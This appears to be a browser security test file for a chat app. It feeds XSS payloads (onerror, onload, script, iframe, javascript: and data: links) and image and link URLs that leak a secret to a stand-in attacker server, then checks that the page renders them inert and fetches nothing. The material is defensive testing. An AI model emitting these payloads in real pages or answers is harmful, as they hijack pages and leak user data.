// @vitest-environment node
import { reply } from "@parley/testkit";
import type { Dialog, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ChatPage } from "./pages/chat-page.ts";
import { useBrowserSuite } from "./support/browser-suite.ts";
import { type RequestCounter, startRequestCounter } from "./support/request-counter.ts";
import { saveScreenshot } from "./support/screenshots.ts";

/**
 * Model output carrying the payloads of the security checklist (reference §1.6 B1/B2): event-handler HTML,
 * script, frames, `javascript:`/`data:` links, and images and links that would carry a secret to another
 * origin if the page fetched them.
 */
function hostileAnswer(attacker: string): string {
  return [
    "Here is what I found.",
    "",
    `<img src=x onerror="window.__xss='img-onerror'">`,
    "",
    `Inline <svg onload="window.__xss='svg-onload'"></svg> and <script>window.__xss='script'</script> tags.`,
    "",
    `<iframe src="${attacker}/frame?d=secret"></iframe>`,
    "",
    `<details open ontoggle="window.__xss='ontoggle'"><summary>more</summary>hidden</details>`,
    "",
    "[a javascript link](javascript:window.__xss='js-link')",
    "",
    `<a href="javascript:window.__xss='raw-link'">a raw anchor</a>`,
    "",
    "[a data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "",
    `![secret chart](${attacker}/leak?d=secret)`,
    "",
    `<img src="${attacker}/raw-img?d=secret">`,
    "",
    `Read more at ${attacker}/autolink?d=secret`,
  ].join("\n");
}

/** Cuts text into pieces of `size` characters, so tags arrive split across tokens as they would live. */
function chunks(text: string, size: number): string[] {
  return Array.from({ length: Math.ceil(text.length / size) }, (_, index) =>
    text.slice(index * size, (index + 1) * size),
  );
}

/** Elements that fetch or run something on their own when they appear in a page. */
const ACTIVE_ELEMENTS =
  "img, script, iframe, frame, object, embed, video, audio, source, link, style, base, meta, form";

describe("model output and addresses the page must not trust", { timeout: 90_000 }, () => {
  const suite = useBrowserSuite();
  let attacker: RequestCounter;
  beforeAll(async () => {
    attacker = await startRequestCounter();
  });
  afterAll(() => attacker?.close());

  it("signs a browser in only through the one-time link, which works once", async () => {
    const { server } = suite;
    const stranger = await suite.newContext();
    const unsigned = await stranger.newPage();
    await unsigned.goto(server.url);
    await unsigned.getByTestId("signed-out").waitFor();

    const loginUrl = server.loginUrl();
    const chat = await ChatPage.signIn(await suite.newContext(), loginUrl);
    expect(new URL(chat.page.url()).pathname).toBe("/");
    const cookies = await chat.page.context().cookies(server.url);
    expect(cookies).toHaveLength(1);
    expect(cookies[0]).toMatchObject({ httpOnly: true, sameSite: "Strict" });

    const reused = await unsigned.goto(loginUrl);
    expect(reused?.status()).toBe(401);
    await unsigned.goto(server.url);
    await unsigned.getByTestId("signed-out").waitFor();
    expect(await stranger.cookies(server.url)).toEqual([]);
  });

  it("ignores a server address offered in the query string or the fragment", async () => {
    const { server } = suite;
    const context = await suite.newContext();
    const chat = await ChatPage.signIn(context, server.loginUrl());
    const requested: string[] = [];
    chat.page.on("request", (request) => requested.push(request.url()));
    const lure = encodeURIComponent(attacker.url);
    await chat.page.goto(`${server.url}/?server=${lure}&baseUrl=${lure}&api=${lure}#server=${lure}`);
    await chat.waitForConnection("connected");
    server.fake.script(reply().text("Answered by the real server."));
    await chat.send("Who answers?");
    await chat.waitForAgentText("Answered by the real server.");

    expect(attacker.requests).toEqual([]);
    expect(requested.filter((url) => !url.startsWith(`${server.url}/`))).toEqual([]);
  });

  for (const csp of ["enforced", "bypassed"] as const) {
    // With the CSP bypassed, only the renderer stands between the payloads and the page.
    it(`renders hostile model output as inert text and fetches nothing from it (CSP ${csp})`, async () => {
      const { server } = suite;
      const context = await suite.newContext({ bypassCSP: csp === "bypassed" });
      const chat = await ChatPage.signIn(context, server.loginUrl());
      const dialogs = collectDialogs(chat.page);
      attacker.requests.length = 0;
      const answer = reply();
      for (const piece of chunks(hostileAnswer(attacker.url), 37)) answer.text(piece);
      server.fake.script(answer);

      const userPayload = `<img src=x onerror="window.__xss='user'"> summarize`;
      await chat.send(userPayload);
      const turn = await chat.waitForAgentPhase("done");
      await chat.waitForAgentTextContaining("Read more at");
      const list = chat.page.getByTestId("message-list");

      expect(await chat.page.evaluate(() => (window as { __xss?: unknown }).__xss)).toBeUndefined();
      expect(dialogs).toEqual([]);
      expect(await list.locator(ACTIVE_ELEMENTS).count()).toBe(0);
      expect(await list.evaluate(elementsWithHandlers)).toEqual([]);
      expect(await list.locator("a[href^='javascript:'], a[href^='data:']").count()).toBe(0);
      expect(attacker.requests).toEqual([]);

      const text = await chat.agentText();
      expect(text).toContain(`<img src=x onerror="window.__xss='img-onerror'">`);
      expect(text).toContain(`<script>window.__xss='script'</script>`);
      expect(await turn.getByTestId("blocked-link").allTextContents()).toEqual([
        "a javascript link",
        "a data link",
      ]);
      const image = turn.getByTestId("remote-image");
      expect(await image.getAttribute("data-host")).toBe(new URL(attacker.url).host);
      const link = turn.locator(`a[href^='${attacker.url}/autolink']`);
      expect(await link.getAttribute("rel")).toBe("noopener noreferrer");
      expect(await chat.messages("user").getByTestId("message-text").textContent()).toBe(userPayload);
      expect(await chat.page.getByTestId("session-title").first().textContent()).toContain("<img src=x");
      if (csp === "enforced") await saveScreenshot(chat.page, "07-hostile-output");

      // The placeholder loads the image only when clicked; the page's CSP then still refuses the origin.
      await image.click();
      if (csp === "enforced") {
        await turn.getByTestId("remote-image-failed").waitFor();
        expect(attacker.requests).toEqual([]);
      } else {
        await turn.locator("[data-testid=loaded-image], [data-testid=remote-image-failed]").waitFor();
        await chat.page.waitForFunction(() =>
          Array.from(document.images).every((element) => element.complete),
        );
        expect(attacker.requests).toEqual(["GET /leak?d=secret"]);
      }
      expect(await chat.page.evaluate(() => (window as { __xss?: unknown }).__xss)).toBeUndefined();
    });
  }
});

/** Records every dialog (alert, confirm, prompt) the page opens, dismissing it. */
function collectDialogs(page: Page): string[] {
  const seen: string[] = [];
  page.on("dialog", (dialog: Dialog) => {
    seen.push(`${dialog.type()}: ${dialog.message()}`);
    void dialog.dismiss();
  });
  return seen;
}

/** Runs in the page: every element under `root` that carries an inline event handler attribute. */
function elementsWithHandlers(root: Element): string[] {
  return Array.from(root.querySelectorAll("*")).flatMap((element) =>
    Array.from(element.attributes)
      .filter((attribute) => attribute.name.toLowerCase().startsWith("on"))
      .map((attribute) => `${element.tagName.toLowerCase()}[${attribute.name}]`),
  );
}
